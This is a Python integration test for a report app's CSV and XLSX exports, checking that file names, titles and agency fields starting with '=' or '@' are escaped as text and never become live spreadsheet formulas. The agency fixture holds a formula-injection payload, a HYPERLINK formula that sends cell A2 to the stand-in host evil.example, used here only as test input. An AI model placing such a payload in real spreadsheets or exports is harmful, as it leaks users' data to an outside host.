"""Exports open in Excel as text: a report named `=1+2.txt`, a title "=己县司法局关于…" and an agency
correction `=HYPERLINK(…)` never become live formulas in the review or indicator CSV/XLSX, and a read
or corrected agency or title never keeps a leading formula character. Real ingest, real app."""
from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from assistant.service import Assistant
from assistant.table_export import FORMULA_STARTS
from assistant.web.server import create_app
from index.config import Settings

pytestmark = pytest.mark.integration

BODY = "\n\n一、主要举措和成效\n\n全年共办理行政复议案件42宗,行政机关负责人出庭率达100%。\n\n二、存在的不足\n\n队伍仍需加强。\n"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    root = tmp_path_factory.mktemp("exports")
    (root / "in").mkdir()
    (root / "in" / "=1+2.txt").write_text("=己县司法局关于2023年度法治政府建设情况的报告" + BODY, encoding="utf-8")
    (root / "in" / "@dong.txt").write_text("东县司法局关于2023年度法治政府建设情况的报告" + BODY, encoding="utf-8")
    service = Assistant(Settings(home=root / "home"))
    assert service.ingest([root / "in" / "=1+2.txt"]).count("indexed") == 1
    assert service.ingest([root / "in" / "@dong.txt"], overrides={"agency": HYPERLINK}).count("indexed") == 1
    return TestClient(create_app(service), raise_server_exceptions=False)


def test_agencies_and_titles_keep_no_leading_formula_character(client):
    rows = {r["source"]: r for r in client.get("/api/reports").json()["reports"]}
    assert rows["=1+2.txt"]["agency"] == "己县司法局" and rows["=1+2.txt"]["title"].startswith("己县司法局关于")
    assert rows["@dong.txt"]["agency"].startswith("HYPERLINK(")


@pytest.mark.parametrize("path", ["/api/review.csv", "/api/indicators.csv"])
def test_csv_cells_never_start_a_formula(client, path):
    response = client.get(path)
    assert response.status_code == 200 and response.text.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for cell in row]
    assert "'=1+2.txt" in cells and "'@dong.txt" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("path", ["/api/review.xlsx", "/api/indicators.xlsx"])
def test_xlsx_cells_are_text_never_formulas(client, path):
    response = client.get(path)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert "=1+2.txt" in [c.value for c in risky] and all(c.data_type == "s" and c.quotePrefix for c in risky)
